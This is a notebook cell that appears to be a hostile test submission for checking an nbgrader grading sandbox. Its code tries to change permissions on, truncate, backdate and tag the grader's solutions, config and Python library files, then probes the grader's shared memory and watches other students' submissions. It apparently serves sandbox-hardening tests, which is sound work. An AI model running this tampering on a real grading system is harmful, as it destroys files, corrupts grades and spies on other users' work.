# %% [markdown] right=["03_counter"] says="norm"
# What the owner of a file may do without opening it to write: close it, date it back, mark it, cut it short.

# %%
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
mine = "@ROOT@/submitted/what_an_owner_may_do/wall/wall.ipynb"
config = "@ROOT@/nbgrader_config.py"
places = ("@ROOT@/solutions/wall/wall.py", "@ROOT@/assignments", os.__file__, config, mine, "@ROOT@")
ways = (
    lambda path: os.chmod(path, 0o777),
    lambda path: libc.syscall(452, -100, path.encode(), 0o777, 0),  # fchmodat2
    lambda path: os.utime(path, (1, 1)),
    lambda path: os.setxattr(path, "user.hostile", b"1"),
    lambda path: os.truncate(path, 0),
    lambda path: os.close(os.open(path, os.O_RDONLY | os.O_TRUNC)),
    lambda path: os.fchmod(os.open(path, os.O_RDONLY), 0),
    lambda path: os.chmod(path, 0),
)
for place in places:
    for way in ways:
        try:
            way(place)
        except OSError:
            pass

# The grader's shared memory, by its number, and the names of what others hand in, as they come.
for number in range(64):
    if libc.shmctl(number, 0, None) >= 0:
        print("FOUND shared memory")
descriptor = libc.inotify_init()
if libc.inotify_add_watch(descriptor, b"@ROOT@/submitted", 0xFFF) >= 0:
    print("FOUND a directory to watch")
